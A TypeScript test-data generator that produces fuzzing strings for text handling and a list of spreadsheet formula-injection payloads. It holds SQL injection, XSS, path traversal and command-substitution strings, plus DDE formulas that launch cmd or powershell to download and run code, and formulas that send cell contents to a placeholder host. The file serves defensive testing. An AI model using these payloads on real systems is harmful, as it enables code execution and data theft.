/** Strings that break careless text handling, always the same ones for the same count. */

/** Numbers in [0, 1), the same for the same seed (mulberry32). */
function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** Texts that look like other values: numbers, dates, booleans, nothing, references, numbers that spreadsheets round. */
// prettier-ignore
const LOOK_ALIKES = [
  '0', '00', '0012', '1e5', '1E-7', '1e400', '0x1F', '0b11', '.5', '5.', '1,50,000', '1.234,56', '1_000', '१२३', '٣', '１２３', 'NaN', 'Infinity', '½', '9007199254740993',
  '12345678901234567890', 'true', 'TRUE', 'False', 'yes', 'null', 'NULL', '(null)', 'undefined', 'nil', 'None', 'N/A', 'n/a', '#N/A', '#REF!', '#DIV/0!', '-', '--', '—', '…',
  '1/2/2026', '2026-01-02', '2026-13-45', '31/02/2026', '10:30 AM', '2026-01-02T03:04:05Z', 'MARCH1', 'SEPT2', '1-2', '2-1-2026', 'A1', 'R1C1', '$A$1', '12%', '₹1,000', '(123)',
];
// prettier-ignore
const INJECTIONS = [
  `'; DROP TABLE leads; --`, `" OR ""="`, `1;SELECT pg_sleep(9)`, `$1`, `:name`, `?`, `%s%s%n`, '%00', '\\0', `\\`, `\\\\`, '\\N', '\\.', `\\'`, `E'\\x41'`, `$$`, '$body$', `/* */`, `{}`, `{"a":1}`, `[1]`, '{{7*7}}',
  '${7*7}', '<%= 7*7 %>', '#{7*7}', '{% raw %}', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', `javascript:alert(1)`, '&lt;b&gt;', '&amp;', '&#0;', '&#xD800;', '<![CDATA[x]]>', ']]>', '<!-- -->', '<?xml?>',
  '_x000D_', '_x0041_', '_x005F_x0041_', '_xD800_', '../../etc/passwd', 'C:\\CON', '`id`', '$(id)', '| id', '\u001b[31m', '(?:a+)+$', '.*', '%_%', '__proto__', 'constructor', '(*)(uid=*)', 'data:text/html,x', 'http://a.in/?q=%0d%0a',
];
// prettier-ignore
const SCRIPTS = [
  'राम कुमार', 'क्षत्रिय', 'र्क', 'नि', 'ज़', 'ज\u093c', 'श्री\u200dमती', 'ক্ষ', 'தமிழ்', 'తెలుగు', 'ਪੰਜਾਬੀ', 'اردو', 'مرحبا', 'עברית', 'ﷺ', 'ไทย', '漢字', '𠜎𠜱', 'かな', '한국', '\u1112\u1161\u11ab', 'é', 'e\u0301', 'A\u030a', '\u212b', 'ß', 'ẞ', 'İ', 'ı', 'ﬀ', 'Ǆ', 'ς',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', 'q\u0307\u0323', 'q\u0323\u0307', '\u0301lone', '=\u0338', '𝕬𝖇', '🅰', 'ｆｕｌｌ', '①', '℡',
];
// prettier-ignore
const EMOJI = ['😀', '👩‍👩‍👧', '🏳️‍🌈', '👍🏽', '🇮🇳', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '1️⃣', '❤️', '☎', '🫠', '🧑🏿‍🦰', '\u{10ffff}', '\u{1f600}\u200d', '\ufe0f'];
// prettier-ignore
const INVISIBLE = ['\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u202a', '\u202e', '\u2066', '\u2069', '\u2060', '\u00ad', '\ufeff', '\u061c', '\u180e', '\u115f', '\u3164', '\u034f', '\ufffc', '\ufffd', '\ufffe', '\uffff', '\ufdd0', '\u{e0001}', '\ue000', '\uf8ff'];
const SPACES = [
  ' ',
  '  ',
  '\t',
  '\u00a0',
  '\u1680',
  '\u2003',
  '\u2028',
  '\u2029',
  '\u202f',
  '\u3000',
  '\u0085',
];
const CONTROLS = Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(code % 0x20 || 0x7f));
const MORE_CONTROLS = ['\u0000', '\u0080', '\u0081', '\u009b', '\u009f', '\u007f'];
// prettier-ignore
const SEPARATORS = ['"', '""', `'`, `''`, ',', ';', '|', '\t', '\n', '\r', '\r\n', '\n\n', '","', '"\n"', '";"', ',"', '",', '\\"', '“', '„', '´', '‚', '\u201a', '٬', '，', '；'];
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', 'a\ud83d', '\ude00b'];
const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  `'=`,
  `''+`,
  ' -',
  '\u00a0@',
  '\u200b=',
];
const WORDS = ['Asha', 'Ravi Kumar', 'ACME (India) Pvt. Ltd.', 'a', 'Z9', '1', 'x'.repeat(60), 'note: '];

const KINDS = [LOOK_ALIKES, INJECTIONS, SCRIPTS, EMOJI, INVISIBLE, SPACES, CONTROLS, MORE_CONTROLS, SEPARATORS, LONE_SURROGATES, SIGNS, WORDS]; // prettier-ignore

/**
 * `count` different strings: every piece by itself, then randomly joined pieces; every hundredth one is long.
 */
export function naughtyStrings(count: number): string[] {
  const random = randomNumbers(26);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const piece = () => (random() < 0.04 ? anyCharacter(random) : pick(pick(KINDS)));
  const strings = new Set(KINDS.flat());
  while (strings.size < count) {
    const pieces = Array.from({ length: 1 + Math.floor(random() * 6) }, piece);
    const text = pieces.join('').slice(0, 150);
    strings.add(strings.size % 100 === 0 ? text.repeat(1 + Math.floor((60 * random()) / text.length)) : text);
  }
  return [...strings].slice(0, count);
}

/** A random code unit or code point. */
function anyCharacter(random: () => number): string {
  return random() < 0.8
    ? String.fromCharCode(Math.floor(random() * 0x10000))
    : String.fromCodePoint(0x10000 + Math.floor(random() * 0x100000));
}

// prettier-ignore
const FORMULAS = [
  '1+1', 'A1', 'SUM(A1:A9)', `cmd|' /C calc'!A0`, `cmd|'/c powershell IEX(wget a.in/x)'!A1`, `MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''`, `DDE("cmd";"/C calc";"x")`, 'HYPERLINK("http://a.in?"&A1,"open")', 'HYPERLINK("http://a.in";"offen")',
  'IMPORTXML("http://a.in","//a")', 'IMPORTDATA("http://a.in/"&B2)', 'IMPORTRANGE("x","A1")', 'IMPORTFEED("http://a.in")', 'IMAGE("http://a.in/x.png")', 'WEBSERVICE("http://a.in/"&A1)', `'file:///etc/passwd'#$a.A1`, 'INDIRECT("A"&1)', 'CALL("urlmon","x")',
  'REGISTER("a","b")', 'EXEC("calc")', 'RTD("a",,"b")', 'x|y!z',
];
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
// prettier-ignore
const DISGUISES = ['\t', '\r', '\n', '\r\n', ' ', '\u00a0', '\u200b', '\ufeff', '\u202e', '\u0000', '\u001f', '\u0085', '\u3000', '\u2028', '\u00ad', '\u2066', "'", "''", "'''", "' ", "'\t", "\u200b'", '\u034f', '\ufe0f'];
// prettier-ignore
const SIGNED = [
  '+91 98765 43210', '+919876543210', '+1 (212) 555-0100', '-', '--', '+', '=', '@', '-1', '+1', '-1e3', '-2+3', '@asha', '@SUM(1+1)*cmd|x!y', '--5', '=-1', '+-1', '=+1', '-=1', '@=1', '=1;2', '="x"', '=""', `="="&"1"`, '=1\n=2', '=1,=2', 'a,=1', '";=1',
  `'tis`, `'`, `''`, `'+91 98`, '-₹5', '–1', '−1', '﹢1', '﹣1', '﹦1', '﹫a', '＝＝1',
];

/** Texts that a spreadsheet might run as a formula, openly or disguised. */
export function formulaPayloads(): string[] {
  const open = FORMULAS.flatMap((formula, index) => [`=${formula}`, `${STARTS[index % 8]}${formula}`]);
  const starts = STARTS.map((sign) => `${sign}1+1`);
  const disguised = DISGUISES.flatMap((disguise, index) => [`${disguise}=1+1`, `${disguise}${STARTS[index % 8]}HYPERLINK("http://a.in")`]); // prettier-ignore
  return [...new Set([...open, ...starts, ...disguised, ...SIGNED])];
}
